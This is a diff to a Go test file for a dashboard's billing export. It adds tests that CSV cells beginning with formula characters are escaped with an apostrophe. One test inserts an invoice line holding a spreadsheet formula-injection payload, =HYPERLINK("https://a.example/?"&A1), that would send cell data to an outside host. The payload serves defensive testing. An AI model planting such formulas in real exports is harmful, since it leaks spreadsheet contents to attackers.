@@ -1,7 +1,9 @@
 package dashboard
 
 import (
+	"encoding/json"
 	"net/http"
+	"path"
 	"regexp"
 	"strings"
 	"testing"
@@ -226,6 +228,18 @@ func TestManagingAccounts(t *testing.T) {
 	}
 }
 
+// No cell of an export is a formula to a spreadsheet.
+func TestCellsAreNoFormulas(t *testing.T) {
+	t.Parallel()
+	for text, want := range map[string]string{
+		"": "", "Plan pro": "Plan pro", "2026-10-01": "2026-10-01", "a=1": "a=1", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "\x80": "\x80",
+	} {
+		if got := plainCell(text); got != want {
+			t.Errorf("%q: %q, want %q", text, got, want)
+		}
+	}
+}
+
 // An account sees what it owes, takes it home, and changes its plan among those on offer.
 func TestBilling(t *testing.T) {
 	t.Parallel()
@@ -257,6 +271,16 @@ func TestBilling(t *testing.T) {
 	csv := owner.get(link + "/download")
 	if csv.Code != 200 || csv.Header().Get("Content-Disposition") != `attachment; filename="R-1_2.csv"` || !strings.Contains(csv.body, "R-1_2,open,total,,,2026-10-01,2026-10-01,,,,,123456,EUR\n") {
 		t.Error(csv.Code, csv.Header(), csv.body)
+	}
+	line, err := json.Marshal(billing.Line{Description: `=HYPERLINK("https://a.example/?"&A1)`, Plan: "@pro", Metric: "fee", PeriodStart: day, PeriodEnd: day, Quantity: 1, UnitAmount: "-1", Per: 1, Amount: -100})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := b.db.Exec(t.Context(), `INSERT INTO invoice_lines (invoice_id, position, line) VALUES ($1, 0, $2)`, path.Base(link), line); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := owner.get(link+"/download").body, `R-1_2,open,"'=HYPERLINK(""https://a.example/?""&A1)",'@pro,fee,2026-10-01,2026-10-01,1,0,-1,1,-100,EUR`+"\n"; !strings.Contains(got, want) {
+		t.Errorf("a line with a formula: %s", got)
 	}
 	if got := b.person(t, "", "x@example.com", accounts.Owner).get(link); got.Code != 404 {
 		t.Errorf("another's invoice: %d", got.Code)
